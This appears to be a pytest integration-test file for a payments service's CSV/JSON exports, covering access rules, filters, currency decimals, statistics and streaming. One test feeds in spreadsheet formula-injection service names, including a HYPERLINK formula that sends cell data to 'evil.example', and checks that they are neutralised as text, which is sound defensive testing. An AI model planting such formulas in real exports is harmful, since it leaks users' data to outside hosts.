"""Exports of payments (CSV and JSON) and the statistics as CSV, through the real app on the test MongoDB.

The routes answer before ``/api/payments/{paymentId}`` could take ``export`` for an id; each caller
gets their own payments (admins: a period's, everyone's); amounts are in the currency's own
decimals; hostile names come back as text; and 50,000 payments go out in chunks, the first before
the cursor has been read.
"""

from __future__ import annotations

import contextlib
import csv
import dataclasses
import io
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from bson import ObjectId
from starlette.testclient import TestClient
from starlette.types import ASGIApp, Message, Receive, Scope, Send

from adapters.exports import MongoPaymentExports
from adapters.mongo import connect
from adapters.settings import Settings
from domain.exports import ADMIN_COLUMNS, CUSTOMER_COLUMNS, STATISTICS_COLUMNS
from tests.integration.api_support import Seeded, api_settings, assert_error_shape, bearer, client_of, seed
from usecases.exports import ROWS

CUSTOMER_EXPORT = "/api/payments/history/customer/export"
ADMIN_EXPORT = "/api/payments/export"
STATISTICS = "/api/payments/specialist/statistics"
DAY = datetime(2026, 11, 1, 12, 0, tzinfo=UTC)


@dataclasses.dataclass
class Api:
    client: TestClient
    seeded: Seeded
    db: Any


@contextlib.contextmanager
def running(settings: Settings, db: Any, wrap: Callable[[ASGIApp], ASGIApp] | None = None) -> Iterator[Api]:
    """The app on the test Redis and MongoDB (``wrap`` around it, if given), the users seeded."""
    with client_of(api_settings(settings), db, wrap) as client:
        yield Api(client, seed(db), db)


@pytest.fixture
def api(settings: Settings, db: Any) -> Iterator[Api]:
    with running(settings, db) as api:
        yield api


def payment(customer: Any, n: int, **fields: Any) -> dict[str, Any]:
    """A paid payment of ``customer``, created ``n`` hours after ``DAY``."""
    at = DAY + timedelta(hours=n)
    doc = {
        "paymentId": f"pi_export_{customer}_{n}",
        "customerId": customer,
        "customerEmail": "cust@example.test",
        "specialistId": ObjectId(),
        "serviceId": ObjectId(),
        "serviceType": "course",
        "serviceName": f"Course {n}",
        "amount": 49900,
        "currency": "INR",
        "status": "completed",
        "amountRefunded": 0,
        "refunds": [],
        "statusHistory": [{"status": "pending", "at": at}],
        "paidAt": at + timedelta(minutes=1),
        "createdAt": at,
        "updatedAt": at,
    }
    return {**doc, **fields}


def rows(answer: Any) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8"), newline="")))


def get(api: Api, path: str, user: Any, role: str = "customer", **params: str) -> Any:
    return api.client.get(path, params=params, headers=bearer(user, role))


# Routes and who sees what ---------------------------------------------------------------------------


def test_the_export_routes_answer_before_the_payment_route(api: Api) -> None:
    """``/api/payments/export`` is no payment id (a 422 before): a customer gets 403, an admin the file."""
    refused = get(api, ADMIN_EXPORT, api.seeded.customer)
    assert (refused.status_code, refused.json()["error"]["code"]) == (403, "forbidden")
    specialist = get(api, ADMIN_EXPORT, api.seeded.specialist, "specialist")
    assert specialist.status_code == 403
    answer = get(api, ADMIN_EXPORT, api.seeded.admin, "admin")
    assert answer.status_code == 200 and answer.text.splitlines() == [",".join(ADMIN_COLUMNS)]
    assert get(api, CUSTOMER_EXPORT, api.seeded.customer).text.splitlines() == [",".join(CUSTOMER_COLUMNS)]
    assert api.client.get(CUSTOMER_EXPORT).status_code == 401


def test_a_csv_export_is_a_named_utf8_attachment(api: Api) -> None:
    answer = get(api, CUSTOMER_EXPORT, api.seeded.customer)
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    today = datetime.now(UTC).strftime("%Y%m%d")
    assert answer.headers["content-disposition"] == f'attachment; filename="payments-{today}.csv"'
    assert answer.headers["cache-control"] == "no-store"
    json_answer = get(api, CUSTOMER_EXPORT, api.seeded.customer, format="json")
    assert json_answer.headers["content-type"] == "application/json"
    assert json_answer.headers["content-disposition"] == f'attachment; filename="payments-{today}.json"'


def test_a_customer_exports_only_their_own_payments_newest_first(api: Api) -> None:
    mine, other = api.seeded.customer, ObjectId()
    api.db.payments.insert_many([payment(mine, n) for n in range(5)] + [payment(other, n) for n in range(3)])
    got = rows(get(api, CUSTOMER_EXPORT, mine))
    assert [r["paymentId"] for r in got] == [f"pi_export_{mine}_{n}" for n in reversed(range(5))]
    assert got[0]["createdAt"] == "2026-11-01T16:00:00.000Z" and got[0]["paidAt"] == "2026-11-01T16:01:00.000Z"


def test_status_from_and_to_filter_the_export(api: Api) -> None:
    mine = api.seeded.customer
    docs = [payment(mine, n, status="refunded" if n % 2 else "completed") for n in range(48)]  # two days
    api.db.payments.insert_many(docs)

    def ids(**params: str) -> list[str]:
        return [r["paymentId"] for r in rows(get(api, CUSTOMER_EXPORT, mine, **params))]

    assert len(ids(status="refunded")) == 24 and all(int(i.rsplit("_", 1)[1]) % 2 for i in ids(status="refunded"))
    # ``to`` as a date means the end of that day: the 12 payments from 12:00 to 23:00 on the 1st.
    assert len(ids(to="2026-11-01")) == 12
    assert len(ids(**{"from": "2026-11-02T00:00:00Z", "to": "2026-11-02T06:00:00Z"})) == 6
    assert len(ids(status="completed", **{"from": "2026-11-02"})) == 18


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"format": "xml"}, "format"),
        ({"status": "paid"}, "status"),
        ({"from": "yesterday"}, "from"),
        ({"to": "2026-13-01"}, "to"),
        ({"from": "2026-11-02", "to": "2026-11-01"}, "from"),
    ],
)
def test_bad_parameters_are_422_in_the_api_s_shape(api: Api, params: dict[str, str], field: str) -> None:
    for path, role, user in (
        (CUSTOMER_EXPORT, "customer", api.seeded.customer),
        (ADMIN_EXPORT, "admin", api.seeded.admin),
    ):
        if path == ADMIN_EXPORT and field == "status":
            continue
        answer = get(api, path, user, role, **params)
        assert answer.status_code == 422, (path, answer.text)
        assert_error_shape(422, answer.json(), answer.text)
        assert (answer.json()["error"]["code"], answer.json()["error"]["field"]) == ("validation_error", field)


def test_the_json_export_has_the_history_s_items(api: Api) -> None:
    """``{"items": [...]}`` whose items are exactly what the history pages show."""
    mine = api.seeded.customer
    api.db.payments.insert_many([payment(mine, n, serviceName=f'Cours\u00e9 "{n}"\n') for n in range(7)])
    exported = get(api, CUSTOMER_EXPORT, mine, format="json").json()
    history = get(api, "/api/payments/history/customer", mine, limit="100").json()
    assert set(exported) == {"items"} and exported["items"] == history["items"] and len(history["items"]) == 7


# Amounts and hostile text ---------------------------------------------------------------------------


def test_amounts_have_each_currency_s_decimals(api: Api) -> None:
    mine = api.seeded.customer
    api.db.payments.insert_many(
        [
            payment(mine, 0, currency="INR", amount=49900, amountRefunded=100),
            payment(mine, 1, currency="JPY", amount=500, amountRefunded=0),
            payment(mine, 2, currency="KWD", amount=1234, amountRefunded=10),
        ]
    )
    got = {r["currency"]: (r["amount"], r["amountRefunded"]) for r in rows(get(api, CUSTOMER_EXPORT, mine))}
    assert got == {"INR": ("499.00", "1.00"), "JPY": ("500", "0"), "KWD": ("1.234", "0.010")}


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-2", "@x", "\tTAB", "\rCR", "a, b", 'say "hi"',
           "two\nlines", "\r\n=1"]  # fmt: skip


def test_hostile_service_names_come_back_as_text(api: Api) -> None:
    """Each parses back as one cell; a would-be formula starts with ``'``; commas, quotes, newlines survive."""
    mine = api.seeded.customer
    api.db.payments.insert_many([payment(mine, n, serviceName=name) for n, name in enumerate(HOSTILE)])
    admin = rows(get(api, ADMIN_EXPORT, api.seeded.admin, "admin"))
    for got in (rows(get(api, CUSTOMER_EXPORT, mine)), admin):
        names = [r["serviceName"] for r in reversed(got)]
        expected = ["'" + n if n[0] in "=+-@\t\r" else n for n in HOSTILE]
        assert names == expected


# Admins' export -------------------------------------------------------------------------------------


def test_the_admin_export_has_every_customer_s_payments_of_the_period(api: Api) -> None:
    a, b = ObjectId(), ObjectId()
    docs = [payment(a, n) for n in range(30)] + [payment(b, n) for n in range(30)]
    docs[0].update(
        refunds=[{"id": "re_1"}, {"id": "re_2"}],
        dispute={"status": "needs_response"},
        reviewRequired={"reason": "amount_mismatch", "at": DAY},
    )
    api.db.payments.insert_many(docs)
    everything = rows(get(api, ADMIN_EXPORT, api.seeded.admin, "admin"))
    assert len(everything) == 60 and list(everything[0]) == list(ADMIN_COLUMNS)
    first = next(r for r in everything if r["paymentId"] == docs[0]["paymentId"])
    assert (first["customerId"], first["customerEmail"], first["specialistId"]) == (
        str(a),
        "cust@example.test",
        str(docs[0]["specialistId"]),
    )
    assert (first["refunds"], first["disputeStatus"], first["reviewRequired"]) == (
        "2",
        "needs_response",
        "amount_mismatch",
    )
    period = rows(
        get(
            api,
            ADMIN_EXPORT,
            api.seeded.admin,
            "admin",
            **{"from": "2026-11-01T20:00:00Z", "to": "2026-11-02T00:00:00Z"},
        )
    )
    assert len(period) == 2 * 4
    as_json = get(api, ADMIN_EXPORT, api.seeded.admin, "admin", format="json").json()["items"]
    flagged = next(item for item in as_json if item["paymentId"] == docs[0]["paymentId"])
    assert len(as_json) == 60 and {"customerEmail", "reviewRequired"} <= set(flagged)  # the admin view


# Statistics as CSV ----------------------------------------------------------------------------------


def test_the_statistics_by_month_as_csv(api: Api) -> None:
    specialist = api.seeded.specialist
    docs = [payment(ObjectId(), n, specialistId=specialist, currency="JPY", amount=500) for n in range(3)]
    docs += [payment(ObjectId(), n, specialistId=specialist, currency="KWD", amount=1230, amountRefunded=10)
             for n in range(2)]  # fmt: skip
    api.db.payments.insert_many(docs)
    figures = get(api, STATISTICS, specialist, "specialist").json()["byMonth"]
    answer = get(api, STATISTICS, specialist, "specialist", format="csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith('attachment; filename="statistics-')
    got = rows(answer)
    assert list(got[0]) == list(STATISTICS_COLUMNS) and len(got) == len(figures) == 2
    assert {r["currency"]: (r["count"], r["gross"], r["refunded"], r["net"]) for r in got} == {
        "JPY": ("3", "1500", "0", "1500"),
        "KWD": ("2", "2.460", "0.020", "2.440"),
    }
    refused = get(api, STATISTICS, specialist, "specialist", format="pdf")
    assert (refused.status_code, refused.json()["error"]["field"]) == (422, "format")


# Streaming ------------------------------------------------------------------------------------------

MANY = 50_000


class Counted(Iterator[dict[str, Any]]):
    """The export's cursor, counting the payments read from it."""

    def __init__(self, cursor: Iterator[dict[str, Any]]) -> None:
        self.cursor, self.read = cursor, 0

    def __next__(self) -> dict[str, Any]:
        doc = next(self.cursor)
        self.read += 1
        return doc

    def close(self) -> None:
        self.cursor.close()  # type: ignore[attr-defined]


def slim(customer: Any, n: int) -> dict[str, Any]:
    """A payment with only the exported fields (the stand-in's time grows with each document's size)."""
    return {
        "paymentId": f"pi_many_{n}",
        "customerId": customer,
        "serviceName": "Course",
        "serviceType": "course",
        "status": "completed",
        "currency": "INR",
        "amount": 49900,
        "amountRefunded": 0,
        "createdAt": DAY + timedelta(seconds=n),
    }


def test_fifty_thousand_payments_are_streamed(settings: Settings, db: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every row arrives, in chunks of about ``ROWS`` payments, the first sent before the cursor was read.

    What the ingress holds meanwhile is measured by the benchmark (``bench``), not asserted here.
    The stand-in computes a query's whole answer before its first batch (some seconds for 50,000
    payments, a real MongoDB streams them from the index), so the app gets a client patient enough
    not to take that pause for a dead server.
    """
    cursors: list[Counted] = []
    of_customer = MongoPaymentExports.of_customer

    def counted(self: MongoPaymentExports, *args: Any) -> Counted:
        cursors.append(Counted(of_customer(self, *args)))
        return cursors[-1]

    monkeypatch.setattr(MongoPaymentExports, "of_customer", counted)
    #: (bytes, payments read from the cursor) of each body message, as the app sent it.
    sent: list[tuple[int, int]] = []

    def observed(app: ASGIApp) -> ASGIApp:
        async def spy(scope: Scope, receive: Receive, send: Send) -> None:
            async def noting(message: Message) -> None:
                if message["type"] == "http.response.body" and message.get("body"):
                    sent.append((len(message["body"]), cursors[-1].read))
                await send(message)

            await app(scope, receive, noting)

        return spy

    patient = connect(settings.mongodb_uri, settings.mongodb_db, timeout_ms=120_000)
    try:
        with running(settings, patient, observed) as api:
            began = time.monotonic()
            customer = api.seeded.customer
            for start in range(0, MANY, 5_000):
                patient.payments.insert_many([slim(customer, n) for n in range(start, start + 5_000)])
            inserted = time.monotonic()
            got = rows(get(api, CUSTOMER_EXPORT, customer))
            print(f"insert {inserted - began:.1f} s, export {time.monotonic() - inserted:.1f} s, {len(sent)} chunks")
    finally:
        patient.client.close()
    assert len(got) == MANY and len({r["paymentId"] for r in got}) == MANY
    assert got[0]["paymentId"] == f"pi_many_{MANY - 1}" and got[-1]["paymentId"] == "pi_many_0"
    assert len(sent) >= MANY // ROWS
    assert sent[0][1] == 0, "the header went out before any payment was read"
    assert sent[1][1] <= 2 * ROWS, "the first rows went out after one batch"
    assert max(size for size, _ in sent) < 256 * 1024
    assert cursors[-1].read == MANY
